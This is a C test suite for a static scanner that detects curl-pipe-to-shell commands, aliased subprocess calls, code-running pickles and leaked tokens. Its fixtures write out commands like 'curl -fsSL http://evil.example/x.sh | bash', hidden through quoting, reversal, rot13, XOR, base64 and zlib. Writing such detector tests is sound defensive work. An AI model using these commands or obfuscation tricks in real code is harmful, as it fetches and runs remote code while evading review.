	scan_str("a.py", "'cu'  'rl -s http://x/i | sh'", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	finding_list_free(&fl);
	/* A quoted part that begins or ends the word (no empty quotes). */
	scan_str("a.sh", "\"cu\"rl -s http://x/i | sh\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	finding_list_free(&fl);
	scan_str("a.sh", "x=1; c'ur'l -s http://x/i | sh\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	finding_list_free(&fl);
	scan_str("a.sh", "cu\"rl\" -s http://x/i | s'h'\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	finding_list_free(&fl);
	/* Empty quotes at a word's edge, at a line's start or end (the
	 * trigger skips only those apart from words: x = "", a docstring). */
	scan_str("a.sh", "''curl -s http://x/i | sh\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	finding_list_free(&fl);
	scan_str("a.sh", "x=1\n\"\"curl -s http://x/i | sh\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	ck_assert_uint_eq(tu_first(&fl, "curl-sh")->line, 2);
	finding_list_free(&fl);
	scan_str("a.sh", "curl'' -s http://x/i | sh''", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	finding_list_free(&fl);
	/* A member named by a literal (subprocess['Popen'] is
	 * subprocess.Popen), with or without a space before the bracket. */
	scan_str("a.py", "p = subprocess['Popen']([x])\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "popen"), 1);
	finding_list_free(&fl);
	scan_str("a.py", "p = subprocess ['Popen']([x])\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "popen"), 1);
	finding_list_free(&fl);
	/* A part that looks like a contraction (ba's'h is bash). */
	scan_str("a.sh", "curl -s http://x/i | ba's'h\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	finding_list_free(&fl);
	scan_str("a.js", "eval(String.fromCharCode(99,117,114,108,32,120,124,"
	    "115,104))\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	finding_list_free(&fl);
	scan_str("a.py", "os.system('hs | i/x//:ptth s- lruc'[::-1])\n", &fl);
	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt,
	    "via reversed string: os.system('curl -s http://x/i | sh')");
	finding_list_free(&fl);
	scan_str("a.py", "exec(codecs.decode('phey -f uggc://k/v | fu', "
	    "'rot_13'))\n", &fl);
	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt,
	    "via rot13: exec('curl -s http://x/i | sh')");
	finding_list_free(&fl);
	/* Fullwidth letters. */
	scan_str("a.sh", "\xef\xbd\x83url -s http://x/i | sh\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt,
	    "via Unicode look-alikes: curl -s http://x/i | sh");
	finding_list_free(&fl);
	/* Found by the bytes: once, not again through the view. */
	scan_str("a.sh", "curl -s 'http://x/' + 'i' | sh\n", &fl);
	ck_assert_uint_eq(fl.n, 1);
	ck_assert_str_eq(fl.v[0].excerpt, "curl -s 'http://x/' + 'i' | sh");
	finding_list_free(&fl);
	/* Nothing to undo, nothing found. */
	scan_str("a.py", "print('a' + 'b')\n", &fl);
	ck_assert_uint_eq(fl.n, 0);
	finding_list_free(&fl);
}
END_TEST

/* Names a file gives to what the rules watch are read as their targets
 * (scan_alias.h), on every line that uses them. */
START_TEST(alias_view)
{
	struct finding_list fl;
	const struct finding *f;
	char *t;
	size_t n = 20000, o;

	scan_str("a.py", "import subprocess as sp\nx = 1\nsp.Popen(cmd)\n", &fl);
	ck_assert_uint_eq(fl.n, 1);
	f = tu_first(&fl, "popen");
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(f->line, 3);
	ck_assert_uint_eq(f->column, 1);
	ck_assert_str_eq(f->excerpt, "via alias: subprocess.Popen(cmd)");
	finding_list_free(&fl);
	/* Defined below its use, and through another alias. */
	scan_str("a.py", "def f():\n    run(cmd)\nimport subprocess as sp\n"
	    "run = sp.Popen\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "popen"), 1);
	ck_assert_uint_eq(tu_first(&fl, "popen")->line, 2);
	finding_list_free(&fl);
	/* A shell variable, with the view's other readings. */
	scan_str("a.sh", "c=curl\n$c -s http://x/i | s''h\n", &fl);
	ck_assert_uint_eq(fl.n, 1);
	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt,
	    "via shell quoting, alias: curl -s http://x/i | sh");
	finding_list_free(&fl);
	/* Found by the bytes: once, not again through the view. */
	scan_str("a.sh", "c=curl\n\ncurl -s http://x/i | sh # $c\n", &fl);
	ck_assert_uint_eq(fl.n, 1);
	ck_assert_str_eq(fl.v[0].excerpt, "curl -s http://x/i | sh # $c");
	finding_list_free(&fl);
	/* Names of modules nothing watches, and a method of that name on
	 * another object, are left alone. */
	scan_str("a.py", "import numpy as sp\nsp.Popen(x)\n", &fl);
	ck_assert_uint_eq(fl.n, 0);
	finding_list_free(&fl);
	scan_str("a.py", "import subprocess as sp\nobj.sp.Popen(x)\n", &fl);
	ck_assert_uint_eq(fl.n, 0);
	finding_list_free(&fl);
	/* Defined through what the normalised view undoes (a join in a
	 * getattr): the name is defined by its view. */
	scan_str("a.py", "import subprocess\n"
	    "run = getattr(subprocess, 'Po' + 'pen')\nrun(cmd)\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "popen"), 1);
	ck_assert_uint_eq(tu_first(&fl, "popen")->line, 3);
	ck_assert_str_eq(tu_first(&fl, "popen")->excerpt,
	    "via alias: subprocess.Popen(cmd)");
	finding_list_free(&fl);
	/* A use far into one long line (read in overlapping windows). */
	t = malloc(n + 64);
	ck_assert_ptr_nonnull(t);
	o = (size_t)snprintf(t, n, "import subprocess as sp;");
	while (o < n - 100)
		o += (size_t)snprintf(t + o, n - o, "a%zu=1;", o);
	snprintf(t + o, n + 64 - o, "sp.Popen(cmd)\n");
	scan_str("a.py", t, &fl);
	ck_assert_uint_eq(tu_count(&fl, "popen"), 1);
	ck_assert_uint_gt(tu_first(&fl, "popen")->column, 16000);
	finding_list_free(&fl);
	free(t);
}
END_TEST

/* What the second stage did with the last file (scan_worker_stage, the
 * figures of make bench's stage_share): each file on its own. */
START_TEST(second_stage_reached)
{
	struct finding_list fl;

	scan_str("a.py", "x = 1\nprint(x)\n", &fl);
	ck_assert_uint_eq(scan_worker_stage(sc.w), 0);
	finding_list_free(&fl);
	scan_str("a.sh", "echo c''url\n", &fl);
	ck_assert_uint_eq(scan_worker_stage(sc.w), SCAN_STAGE_VIEW);
	finding_list_free(&fl);
	scan_str("a.sh", "c=curl\n$c -s http://x/i | sh\n", &fl);
	ck_assert_uint_eq(scan_worker_stage(sc.w),
	    SCAN_STAGE_VIEW | SCAN_STAGE_ALIAS);
	finding_list_free(&fl);
	/* an alias no line uses (its binding is no use): defined, but no
	 * view line */
	scan_str("a.py", "s = os.system\n", &fl);
	ck_assert_uint_eq(scan_worker_stage(sc.w), SCAN_STAGE_ALIAS);
	finding_list_free(&fl);
	scan_str("a.py", "k = 5\ny = x ^ k\n", &fl);
	ck_assert_uint_eq(scan_worker_stage(sc.w), SCAN_STAGE_XOR);
	finding_list_free(&fl);
	/* and the next file starts from none */
	scan_str("a.py", "x = 1\n", &fl);
	ck_assert_uint_eq(scan_worker_stage(sc.w), 0);
	finding_list_free(&fl);
}
END_TEST

/* A literal XORed with the file's literal key: the payload is read as a
 * view of the literal's line; a file without XOR is not read so. */
START_TEST(xor_view)
{
	static const char pt[] = "curl -s http://x/i | sh";
	struct finding_list fl;
	const struct finding *f;
	char t[512], hex[128];
	size_t i, o;

	for (i = 0, o = 0; pt[i] != '\0'; i++)
		o += (size_t)snprintf(hex + o, sizeof(hex) - o, "%02x",
		    (unsigned char)pt[i] ^ (unsigned char)"k3y"[i % 3]);
	snprintf(t, sizeof(t), "import subprocess\nKEY = b'k3y'\n"
	    "P = '%s'\n"
	    "cmd = bytes(c ^ KEY[i %% 3] for i, c in "
	    "enumerate(bytes.fromhex(P)))\n", hex);
	scan_str("a.py", t, &fl);
	f = tu_first(&fl, "curl-sh");
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(f->line, 3);
	ck_assert_uint_eq(f->column, 5);
	ck_assert_str_eq(f->excerpt,
	    "via XOR with a literal key: curl -s http://x/i | sh");
	finding_list_free(&fl);
	/* The same literal in a file that XORs nothing. */
	snprintf(t, sizeof(t), "KEY = b'k3y'\nP = '%s'\n", hex);
	scan_str("a.py", t, &fl);
	ck_assert_uint_eq(fl.n, 0);
	finding_list_free(&fl);
}
END_TEST

/* PowerShell's -EncodedCommand: base64 of UTF-16LE, read as the text. */
START_TEST(base64_of_utf16)
{
	struct finding_list fl;
	const struct finding *f;

	scan_str("a.ps1", "powershell -enc YwB1AHIAbAAgAC0AZgBzAFMATAAgAGgAdAB0"
	    "AHAAOgAvAC8AeAAvAGkAIAB8ACAAcwBoADsAIABlAGMAaABvACAAcABhAGQAZABp"
	    "AG4AZwAgAHQAbwAgAG0AYQBrAGUAIABpAHQAIABsAG8AbgBnACAAZQBuAG8AdQBn"
	    "AGgA\n", &fl);
	f = tu_first(&fl, "curl-sh");
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(f->line, 1);
	ck_assert_str_eq(f->excerpt, "decoded base64 (UTF-16LE): curl -fsSL "
	    "http://x/i | sh; echo padding to make it long enough");
	finding_list_free(&fl);
}
END_TEST

/* exec(zlib.decompress(b64decode(...))): base64 of a zlib stream, inflated
 * (bounded) and read; a stream that does not inflate is left alone. */
START_TEST(base64_of_zlib)
{
	struct finding_list fl;

	scan_str("a.py", "exec(zlib.decompress(b64decode('eJxLLi3KUdBNKw72UcgoKSmw"
	    "0tev0M9UqFEozlBQVkjMS1Eozs9NVcjNL0pVKM8vSinmAgCSrRAx')))\n", &fl);
	ck_assert_ptr_nonnull(tu_first(&fl, "curl-sh"));
	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt, "decoded base64 "
	    "(compressed): curl -fsSL http://x/i | sh # and some more words");
	finding_list_free(&fl);
	/* The same with its deflate data damaged. */
	scan_str("a.py", "exec(zlib.decompress(b64decode('eJxLLi3KUdBNKw72UcgoKSmw"
	    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')))\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 0);
	finding_list_free(&fl);
}
END_TEST

/* Pickles are walked, whatever their name; a load that calls a command
 * runner is critical; plain data is nothing; text is not a pickle. */
START_TEST(pickles)
{
	/* pickle.dumps(E(), protocol=2), E.__reduce__ -> (os.system, ('id',)) */
	static const char p2[] = "\x80\x02" "cposix\nsystem\nq\x00X\x02\x00"
	    "\x00\x00idq\x01\x85q\x02Rq\x03.";
	/* the same, protocol 0 */
	static const char p0[] = "cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.";
	/* pickle.dumps(collections.OrderedDict(a=1), protocol=2) */
	static const char od[] = "\x80\x02" "ccollections\nOrderedDict\nq\x00)"
	    "Rq\x01X\x01\x00\x00\x00aq\x02K\x01s.";
	/* an unknown callable, called, in a file named as a pickle */
	static const char unk[] = "\x80\x02" "chelpers\nrun\nq\x00)Rq\x01.";
	struct finding_list fl;

	tu_scan(&sc, "model.bin", p2, sizeof(p2) - 1, &fl);
	ck_assert_uint_eq(tu_count(&fl, "airlock.pickle-code"), 1);
	ck_assert_int_eq(tu_first(&fl, "airlock.pickle-code")->severity,
	    AL_SEV_CRITICAL);
	ck_assert_str_eq(tu_first(&fl, "airlock.pickle-code")->excerpt,
	    "loading this pickle calls posix.system (opcode at byte 2): it "
	    "runs commands, code or I/O");
	finding_list_free(&fl);
	tu_scan(&sc, "notes.txt", p0, sizeof(p0) - 1, &fl);
	ck_assert_uint_eq(tu_count(&fl, "airlock.pickle-code"), 1);
	finding_list_free(&fl);
	tu_scan(&sc, "data.pkl", od, sizeof(od) - 1, &fl);
	ck_assert_uint_eq(fl.n, 0);
	finding_list_free(&fl);
	tu_scan(&sc, "cache.pkl", unk, sizeof(unk) - 1, &fl);
	ck_assert_uint_eq(tu_count(&fl, "airlock.pickle-code"), 1);
	ck_assert_int_eq(tu_first(&fl, "airlock.pickle-code")->severity,
	    AL_SEV_HIGH);
	finding_list_free(&fl);
	/* Text that starts like a protocol 0 pickle and has STOPs ('.'). */
	scan_str("LICENSE", "Permission is hereby granted. (c) 2020 Someone.\n"
	    "Redistribution is allowed.\n", &fl);
	ck_assert_uint_eq(fl.n, 0);
	finding_list_free(&fl);
}
END_TEST

START_TEST(empty_and_nul_and_invalid_utf8)
{
	static const char odd[] = "\xff\xfe\0x = " TOKEN " \xc3\n";
	struct finding_list fl;

	tu_scan(&sc, "empty.txt", "", 0, &fl);
	ck_assert_uint_eq(fl.n, 0);
	finding_list_free(&fl);
	/* Read as sh reads it, the NUL dropped: the token is the 7th
	 * character (each byte that is not UTF-8 counts one). */
	tu_scan(&sc, "odd.txt", odd, sizeof(odd) - 1, &fl);
	ck_assert_uint_eq(tu_count(&fl, "gh-pat"), 1);
	ck_assert_uint_eq(tu_first(&fl, "gh-pat")->column, 7);
	finding_list_free(&fl);
}
END_TEST

START_TEST(anchors_at_line_and_file_end)
{
	struct finding_list fl;

	scan_str("a.txt", "x\nEND-OF-THINGS\ny", &fl);
	ck_assert_uint_eq(tu_count(&fl, "eof-marker"), 1);
	finding_list_free(&fl);
	scan_str("a.txt", "x\nEND-OF-THINGS", &fl);
	ck_assert_uint_eq(tu_count(&fl, "eof-marker"), 1);
	finding_list_free(&fl);
	scan_str("a.txt", "x END-OF-THINGS\nEND-OF-THINGS and more\n", &fl);
	ck_assert_uint_eq(tu_count(&fl, "eof-marker"), 0);
	finding_list_free(&fl);
}
END_TEST

START_TEST(finding_cap_is_unscannable)
{
	size_t n = AL_MAX_FINDINGS_PER_FILE + 50, i, len = strlen(TOKEN) + 1;
	char *buf = malloc(n * len);
	struct finding_list fl;

	ck_assert_ptr_nonnull(buf);
	for (i = 0; i < n; i++) {
		memcpy(buf + i * len, TOKEN, len - 1);
		buf[i * len + len - 1] = '\n';
	}
	tu_scan(&sc, "flood.txt", buf, n * len, &fl);
	ck_assert_uint_eq(tu_count(&fl, AL_RULE_UNSCANNABLE), 1);
	ck_assert_uint_eq(tu_count(&fl, "gh-pat"), AL_MAX_FINDINGS_PER_FILE);
	ck_assert_int_eq(tu_first(&fl, AL_RULE_UNSCANNABLE)->severity,
	    AL_SEV_HIGH);
	finding_list_free(&fl);
	free(buf);
}
END_TEST

START_TEST(read_error_is_unscannable)
{
	struct finding_list fl = {0};
	uint64_t bytes = 0;
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	/* read() on a directory fails (EISDIR): the file is unscannable. */
	ck_assert_int_ge(fd, 0);
	ck_assert_int_eq(scan_fd(sc.w, fd, "dir", "dir", &fl, &bytes,
	    NULL), 0);
	close(fd);
	ck_assert_uint_eq(tu_count(&fl, AL_RULE_UNSCANNABLE), 1);
	ck_assert_ptr_nonnull(strstr(fl.v[0].excerpt, "read error"));
	finding_list_free(&fl);
}
END_TEST

START_TEST(database_cache)
{
	char *dir = tu_mkdtemp(), cmd[4300];
	struct scan_engine *e1, *e2, *e3;
	struct scan_worker *w;
	struct finding_list fl = {0};
	FILE *p;
	char name[512] = "";

	ck_assert_int_eq(scan_engine_new(&e1, sc.rs, dir), 0);
	ck_assert_int_eq(scan_engine_from_cache(e1), 0);
	ck_assert_int_eq(scan_engine_new(&e2, sc.rs, dir), 0);
	ck_assert_int_eq(scan_engine_from_cache(e2), 1);
	ck_assert_int_eq(scan_worker_new(&w, e2), 0);
	ck_assert_int_eq(scan_mem(w, TOKEN, strlen(TOKEN), "a", "a", &fl), 0);
	ck_assert_uint_eq(tu_count(&fl, "gh-pat"), 1);
	finding_list_free(&fl);
	scan_worker_free(w);
	/* Damage the cached file: it is ignored and rebuilt, never trusted. */
	snprintf(cmd, sizeof(cmd), "ls '%s'/hs-*.db", dir);
	p = popen(cmd, "r");
	ck_assert_ptr_nonnull(p);
	ck_assert_ptr_nonnull(fgets(name, sizeof(name), p));
	pclose(p);
	name[strcspn(name, "\n")] = '\0';
	snprintf(cmd, sizeof(cmd), "printf 'X' | dd of='%s' bs=1 seek=200 "
	    "conv=notrunc status=none", name);
	ck_assert_int_eq(system(cmd), 0);
	ck_assert_int_eq(scan_engine_new(&e3, sc.rs, dir), 0);
	ck_assert_int_eq(scan_engine_from_cache(e3), 0);
	scan_engine_free(e1);
	scan_engine_free(e2);
	scan_engine_free(e3);
	tu_rmrf(dir);
}
END_TEST

/* "curl -fsSL http://evil.example/x.sh | bash" in three encodings. */
#define CURL_B64 "Y3VybCAtZnNTTCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBiYXNo"
#define CURL_HEX "6375726c202d6673534c20687474703a2f2f6576696c2e6578616d706c" \
    "652f782e7368207c2062617368"
#define CURL_B64_HEX "NjM3NTcyNmMyMDJkNjY3MzUzNGMyMDY4NzQ3NDcwM2EyZjJmNjU3NjY5" \
    "NmMyZTY1Nzg2MTZkNzA2YzY1MmY3ODJlNzM2ODIwN2MyMDYyNjE3MzY4"

START_TEST(decoded_blobs_are_scanned)
{
	struct finding_list fl;
	const struct finding *f;

	scan_str("a.py", "x = 1\npayload = \"" CURL_B64 "\"\n", &fl);
	f = tu_first(&fl, "curl-sh");
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(f->line, 2);
	ck_assert_uint_eq(f->column, 12);
	ck_assert_str_eq(f->excerpt, "decoded base64: curl -fsSL "
	    "http://evil.example/x.sh | bash");
	finding_list_free(&fl);
	scan_str("a.py", "h = '" CURL_HEX "'\n", &fl);
	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt, "decoded hex: curl "
	    "-fsSL http://evil.example/x.sh | bash");
	finding_list_free(&fl);
	scan_str("a.py", "s = \"\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74"
	    "\\x70\\x3a\\x2f\\x2f\\x78\\x20\\x7c\\x20\\x73\\x68\"\n", &fl);
	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt,
	    "decoded \\x escapes: curl http://x | sh");
	finding_list_free(&fl);
	/* Nested: base64 of hex; the excerpt names the whole chain. */
	scan_str("a.py", "n = \"" CURL_B64_HEX "\"\n", &fl);
	ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt, "decoded base64: "
	    "decoded hex: curl -fsSL http://evil.example/x.sh | bash");
	finding_list_free(&fl);
}
END_TEST

START_TEST(decoded_secret_is_redacted)
{
	/* hex of "token = ghp_R2d5...": the decoded excerpt masks the token, and
	 * the hex itself is masked in other findings' excerpts on the line. */
	static const char hex[] = "746f6b656e203d206768705f523264355a"
	    "6b39685631704c62453178543342755557527a59554a6a5247566d5232684a";
	struct finding_list fl;
	char line[512];
	size_t i;

	snprintf(line, sizeof(line), "curl -H '%s' http://x | sh\n", hex);
	scan_str("a.sh", line, &fl);
	ck_assert_uint_eq(tu_count(&fl, "gh-pat"), 1);
	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
	ck_assert_str_eq(tu_first(&fl, "gh-pat")->excerpt,
	    "decoded hex: token = ghp_*****");
	for (i = 0; i < fl.n; i++)
		ck_assert_ptr_null(strstr(fl.v[i].excerpt, hex + 16));
	finding_list_free(&fl);
}
END_TEST

START_TEST(undecodable_or_binary_blobs)
{
	struct finding_list fl;

	/* Binary data in base64 (an image) and a long identifier: nothing. */
	scan_str("a.js", "img = \"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAA"
	    "DUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\"\n"
	    "test_this_is_a_very_long_python_identifier_name = 1\n"
	    "sha = \"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b"
	    "7852b855\"\n", &fl);
	ck_assert_uint_eq(fl.n, 0);
	finding_list_free(&fl);
}
END_TEST

START_TEST(long_encoded_text_is_context)
{
	struct dynbuf b;
	struct finding_list fl;
	const struct finding *f;
	size_t i;

	/* 300 base64 characters of plain text: a low finding, no more. */
	dynbuf_init(&b, 4096);
	ck_assert_int_eq(dynbuf_adds(&b, "t = \""), 0);
	for (i = 0; i < 10; i++)
		ck_assert_int_eq(dynbuf_adds(&b,
		    "TG9yZW0gaXBzdW0gZG9sb3Igc2l0IGFtZXQu"), 0);
	ck_assert_int_eq(dynbuf_adds(&b, "\"\n"), 0);
	tu_scan(&sc, "a.txt", b.data, b.len, &fl);
	f = tu_first(&fl, AL_RULE_ENCODED_TEXT);
	ck_assert_ptr_nonnull(f);
	ck_assert_int_eq(f->severity, AL_SEV_LOW);
	ck_assert_uint_eq(f->line, 1);
	ck_assert_uint_eq(f->column, 6);
	ck_assert_uint_eq(fl.n, 1);
	finding_list_free(&fl);
	dynbuf_free(&b);
}
END_TEST

START_TEST(blob_across_chunk_boundary)
{
	/* The blob starts 20 bytes before the end of the first read. */
	size_t keep = 2 * AL_SCAN_WINDOW, n = AL_SCAN_CHUNK + keep + 4096, i;
	size_t at = AL_SCAN_CHUNK + keep - 20;
	char *buf = malloc(n);
	struct finding_list fl;
	const struct finding *f;

	ck_assert_ptr_nonnull(buf);
	for (i = 0; i < n; i++)
		buf[i] = (i % 50 == 49) ? '\n' : ' ';
	buf[at - 1] = '"';
	memcpy(buf + at, CURL_B64, strlen(CURL_B64));
	buf[at + strlen(CURL_B64)] = '"';
	tu_scan(&sc, "big.py", buf, n, &fl);
	f = tu_first(&fl, "curl-sh");
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(f->line, at / 50 + 1);
	ck_assert_uint_eq(f->column, at % 50 + 1);
	finding_list_free(&fl);
	free(buf);
}
END_TEST

/*
 * The frequent triggers (a quote inside a word, an empty literal, a
 * bracket with a literal) are found by the worker, not by Hyperscan
 * (scan_worker.c, qtrig_run): one whose bytes straddle the end of the
 * first read, or of a later one after the buffer slid, is still found,
 * wherever on the line the read ends.
 */
START_TEST(triggers_across_chunk_boundary)
{
	static const char *const lines[] = {
		"c\"ur\"l -s http://x/i | sh\n",
		"c''url -s http://x/i | sh\n",
		"p = subprocess['Popen']([x])\n",
	};
	static const char *const want[] = {"curl-sh", "curl-sh", "popen"};
	size_t keep = 2 * AL_SCAN_WINDOW, first = AL_SCAN_CHUNK + keep;
	size_t n = first + AL_SCAN_CHUNK + 4096, i, k, at, len;
	int shift, pass;
	char *buf = malloc(n);
	struct finding_list fl;
	const struct finding *f;

	ck_assert_ptr_nonnull(buf);
	for (pass = 0; pass < 2; pass++) {
		/* the end of the first read, then of the second (slid) */
		size_t edge = pass == 0 ? first : first + AL_SCAN_CHUNK;

		for (k = 0; k < sizeof(lines) / sizeof(lines[0]); k++) {
			len = strlen(lines[k]);
			for (shift = -4; shift <= 2; shift++) {
				for (i = 0; i < n; i++)
					buf[i] = (i % 50 == 49) ? '\n' : ' ';
				/* the line's quote or bracket at edge + shift */
				at = edge + (size_t)(long)shift -
				    (size_t)(strchr(lines[k], k == 2 ? '[' :
				    (k == 0 ? '"' : '\'')) - lines[k]);
				/* a line of its own: a newline before it */
				buf[at - 1] = '\n';
				memcpy(buf + at, lines[k], len);
				tu_scan(&sc, k == 2 ? "big.py" : "big.sh", buf, n,
				    &fl);
				f = tu_first(&fl, want[k]);
				ck_assert_msg(f != NULL, "%s at %d of read %d",
				    lines[k], shift, pass);
				finding_list_free(&fl);
			}
		}
	}
	free(buf);
}
END_TEST

/*
 * Atoms are held to the file's end and confirmed only where a condition
 * can be met (scan_worker.c, "atoms held to the file's end"): the
 * condition is found, on the right lines, in a file that fits the buffer,
 * one that slides out of it, one longer than the kept text, and one with
 * more held hits than are listed; atoms alone report nothing.
 */
#define ATOM_ENV \
    "  - id: atom.env\n" \
    "    title: the environment\n" \
    "    category: exfiltration\n" \
    "    atom: [env]\n" \
    "    pattern: '\\bENVALL\\b'\n" \
    "    description: D\n"
#define ATOM_SEND \
    "  - id: atom.send\n" \
    "    title: a send\n" \
    "    category: exfiltration\n" \
    "    atom: [send]\n" \
    "    pattern: '\\bSEND\\('\n" \
    "    description: D\n"
static const char flow_rules[] =
    "rules:\n"
    ATOM_ENV
    ATOM_SEND
    "  - id: both\n"
    "    title: env and send\n"
    "    category: exfiltration\n"
    "    severity: high\n"
    "    all: [env, send]\n"
    "    description: D\n";

/* A text of n bytes in lines of 50: line 2 holds ENVALL (k times over
 * the first k lines from line 2), the last line SEND(x). */
static char *
flow_text(size_t n, size_t k)
{
	char *t = malloc(n);
	size_t i;

	ck_assert_ptr_nonnull(t);
	for (i = 0; i < n; i++)
		t[i] = i % 50 == 49 ? '\n' : ' ';
	for (i = 0; i < k; i++)
		memcpy(t + 50 * (i + 1), "x = ENVALL", 10);
	memcpy(t + (n / 50 - 1) * 50, "SEND(x)", 7);
	return t;
}

START_TEST(atoms_held_to_the_end)
{
	static const size_t sizes[] = {4000, AL_SCAN_CHUNK + 300000,
	    AL_FLOW_TEXT_MAX + 200000};
	struct tu_scanner fs;
	struct finding_list fl;
	const struct finding *f;
	char *t;
	size_t i;

	tu_scanner_init(&fs, flow_rules);
	for (i = 0; i < sizeof(sizes) / sizeof(sizes[0]); i++) {
		t = flow_text(sizes[i] / 50 * 50, 1);
		tu_scan(&fs, "a.py", t, sizes[i] / 50 * 50, &fl);
		f = tu_first(&fl, "both");
		ck_assert_msg(f != NULL, "size %zu", sizes[i]);
		ck_assert_uint_eq(f->line, sizes[i] / 50);
		ck_assert_uint_eq(fl.n, 1); /* the atoms are no findings */
		finding_list_free(&fl);
		/* Without the send, nothing. */
		memcpy(t + (sizes[i] / 50 - 1) * 50, "XXXX", 4);
		tu_scan(&fs, "a.py", t, sizes[i] / 50 * 50, &fl);
		ck_assert_uint_eq(fl.n, 0);
		finding_list_free(&fl);
		free(t);
	}
	/* A text past the kept cap: the hits held when it goes past (with
	 * the second read, which would take it there: the first fills a
	 * chunk, the buffer then keeps 2 * AL_SCAN_WINDOW bytes before the
	 * second) are confirmed each in its window, in the kept text or in
	 * the live buffer: hits near the start, before the kept bytes, in
	 * them, and at their end. */
	{
		static const size_t at_v[] = {50, AL_SCAN_CHUNK / 2,
		    AL_SCAN_CHUNK - 1000, AL_SCAN_CHUNK + 1000,
		    AL_SCAN_CHUNK + 2 * AL_SCAN_WINDOW - 100};
		size_t n = (AL_FLOW_TEXT_MAX + 200000) / 50 * 50, j, at;

		for (j = 0; j < sizeof(at_v) / sizeof(at_v[0]); j++) {
			t = flow_text(n, 0);
			at = at_v[j] / 50 * 50;
			memcpy(t + at, "x = ENVALL", 10);
			tu_scan(&fs, "a.py", t, n, &fl);
			f = tu_first(&fl, "both");
			ck_assert_msg(f != NULL, "ENVALL at %zu", at);
			ck_assert_uint_eq(f->line, n / 50);
			ck_assert_uint_eq(fl.n, 1);
			finding_list_free(&fl);
			free(t);
		}
	}
	/* More held hits than the list holds: each rule's span is read. */
	t = flow_text(50 * 6000, 5000);
	tu_scan(&fs, "a.py", t, 50 * 6000, &fl);
	f = tu_first(&fl, "both");
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(f->line, 6000);
	finding_list_free(&fl);
	free(t);
	tu_scanner_free(&fs);
}
END_TEST

/*
 * Atoms of tags no condition is keyed on are left out of the stream of a
 * file read whole, and looked for in its kept text once it has a key atom
 * (scan_worker.c, rest_scan): the conditions are the same as when every
 * atom is in the stream, which a file longer than one chunk still has;
 * a keyword atom is confirmed there; a pattern anchored after a lone CR
 * (one Hyperscan runs whole: no literal stands for it) is found as the
 * stream finds it; a file without a key atom, or with a hit of one that
 * its regex does not confirm, is not read again.
 */
static const char keyed_rules[] =
    "rules:\n"
    ATOM_ENV
    "  - id: atom.line\n"
    "    title: a line start\n"
    "    category: exfiltration\n"
    "    atom: [line]\n"
    "    pattern: '^(?:aq|qa)[0-9]{6}\\b'\n"
    "    description: D\n"
    "  - id: atom.word\n"
    "    title: a keyword atom\n"
    "    category: exfiltration\n"
    "    atom: [word]\n"
    "    keywords: [kwatom]\n"
    "    pattern: '\\bKWATOM\\b'\n"
    "    description: D\n"
    ATOM_SEND
    "  - id: env-send\n"
    "    title: env and send\n"
    "    category: exfiltration\n"
    "    severity: high\n"
    "    all: [env, send]\n"
    "    key: [send]\n"
    "    description: D\n"
    "  - id: line-send\n"
    "    title: line and send\n"
    "    category: exfiltration\n"
    "    severity: high\n"
    "    all: [line, send]\n"
    "    key: [send]\n"
    "    description: D\n"
    "  - id: word-flow\n"
    "    title: word to send\n"
    "    category: exfiltration\n"
    "    severity: high\n"
    "    flow: {from: [word], to: [send]}\n"
    "    description: D\n";

START_TEST(atoms_looked_for_once_a_key_is_found)
{
	static const char *const texts[] = {
		/* the other atoms before the key, after it, and alone */
		"x = ENVALL\ny = 1\nSEND(x)\n",
		"SEND(x)\ny = 1\nx = ENVALL\n",
		"x = ENVALL\ny = 1\nz = 2\n",
		/* anchored after a lone CR, which ends a line for the rules */
		"y = 1\rqa123456 z\rSEND(z)\r",
		/* a keyword atom, confirmed in the kept text */
		"v = KWATOM\nSEND(v)\n",
		/* a hit of the key atom that its regex does not confirm */
		"x = ENVALL\nySEND(x)\n",
	};
	static const char *const want[][3] = {
		{"env-send"}, {"env-send"}, {NULL}, {"line-send"},
		{"word-flow"}, {NULL},
	};
	/* (positions count LF only: lone_cr_ends_a_line) */
	static const unsigned line[] = {3, 3, 0, 1, 2, 0};
	struct tu_scanner ks;
